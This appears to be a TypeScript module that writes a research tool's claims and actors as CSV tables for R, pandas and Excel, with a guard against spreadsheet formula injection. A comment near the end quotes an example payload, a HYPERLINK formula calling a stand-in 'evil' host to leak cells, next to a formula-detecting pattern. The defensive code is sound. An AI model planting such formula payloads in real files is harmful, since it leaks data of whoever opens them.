// Claims and actors as RFC 4180 tables, one row per claim or actor, for R,
// pandas, SPSS and Excel. Offsets are the stored ones: UTF-16 code units into
// the article's plain text (blocks joined by a blank line), as in the JSON.
import { LIST_SEPARATOR, namesFor, orderedArticles, orderedClaims, step, type ExportControl, type ExportInput } from './export-input'

export const CLAIM_COLUMNS = [
  'claim_id',
  'article_id',
  'article_title',
  'outlet',
  'published_at',
  'kind',
  'speakers',
  'targets',
  'event',
  'quote',
  'note',
  'cue',
  'tags',
  'start',
  'end',
  'created_at',
  'updated_at',
] as const

export const ACTOR_COLUMNS = [
  'actor_id',
  'name',
  'type',
  'aliases',
  'member_of',
  'member_of_id',
  'description',
  'claims_as_speaker',
  'claims_as_target',
  'claims',
] as const

// Excel only detects UTF-8 (accents, curly quotes, non-breaking spaces) when the
// file starts with a byte order mark; R and pandas skip it.
const BOM = '\uFEFF'
const CRLF = '\r\n'

export function buildClaimsCsv(input: ExportInput, control?: ExportControl): string {
  const names = namesFor(input)
  const rows: (string | number)[][] = [[...CLAIM_COLUMNS]]
  const articles = orderedArticles(input.articles)
  articles.forEach((article, i) => {
    step(control, 'Writing claims', i, articles.length)
    for (const claim of orderedClaims(article)) {
      rows.push([
        claim.id,
        article.id,
        article.title,
        article.outlet,
        article.publishedAt,
        claim.kind,
        names.actors(claim.speakers).join(LIST_SEPARATOR),
        names.actors(claim.targets).join(LIST_SEPARATOR),
        names.event(claim.eventId),
        claim.quote,
        claim.note,
        claim.cue,
        claim.tags.join(LIST_SEPARATOR),
        claim.start,
        claim.end,
        claim.createdAt,
        claim.updatedAt,
      ])
    }
  })
  return toCsv(rows)
}

/** Every actor of the export with how often the exported claims name it. */
export function buildActorsCsv(input: ExportInput): string {
  const names = new Map(input.actors.map((a) => [a.id, a.name]))
  const counts = new Map<string, { speaker: number; target: number; either: number }>()
  for (const claim of input.articles.flatMap((a) => a.claims)) {
    for (const id of new Set([...claim.speakers, ...claim.targets])) {
      const c = counts.get(id) ?? counts.set(id, { speaker: 0, target: 0, either: 0 }).get(id)!
      c.either++
      if (claim.speakers.includes(id)) c.speaker++
      if (claim.targets.includes(id)) c.target++
    }
  }
  const rows: (string | number)[][] = [[...ACTOR_COLUMNS]]
  for (const actor of [...input.actors].sort((a, b) => a.name.localeCompare(b.name) || a.id.localeCompare(b.id))) {
    rows.push([
      actor.id,
      actor.name,
      actor.type,
      actor.aliases.join(LIST_SEPARATOR),
      actor.memberOf ? (names.get(actor.memberOf) ?? actor.memberOf) : '',
      actor.memberOf ?? '',
      actor.description,
      counts.get(actor.id)?.speaker ?? 0,
      counts.get(actor.id)?.target ?? 0,
      counts.get(actor.id)?.either ?? 0,
    ])
  }
  return toCsv(rows)
}

/** Columns of ids, written verbatim: ids are made of letters, digits, "_"
 * and "-" only, so one that starts with "-" can never be a formula that does
 * anything, and R and pandas must get them exactly to join the tables. */
const ID_COLUMNS = new Set<string>(['claim_id', 'article_id', 'actor_id', 'member_of_id'])

function toCsv(rows: (string | number)[][]): string {
  const verbatim = rows[0].map((name) => ID_COLUMNS.has(String(name)))
  return BOM + rows.map((row) => row.map((value, i) => (verbatim[i] ? csvField(value, false) : csvField(value))).join(',') + CRLF).join('')
}

// Spreadsheets run a cell that starts with one of these as a formula, and a
// quote from a hostile web page could be `=HYPERLINK("https://evil/?"&A1)`,
// leaking other cells or running commands when the researcher opens the file
// (OWASP "CSV Injection"). A leading apostrophe makes the cell plain text.
const FORMULA_START = /^[=+\-@\t\r]/

function csvField(value: string | number, guard = true): string {
  if (typeof value === 'number') return String(value)
  const text = guard && FORMULA_START.test(value) ? `'${value}` : value
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}
